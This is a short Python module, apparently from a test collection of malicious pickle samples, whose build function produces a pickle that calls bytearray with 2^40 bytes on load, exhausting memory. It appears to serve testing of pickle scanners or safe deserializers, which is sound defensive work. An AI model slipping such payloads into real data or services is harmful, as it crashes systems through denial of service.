"""Bytearray of a number allocates as many bytes."""

from __future__ import annotations

from malicious_samples.recipes import pickled_call


def build(canary: str) -> bytes:
    del canary
    return pickled_call("builtins", "bytearray", 1 << 40)
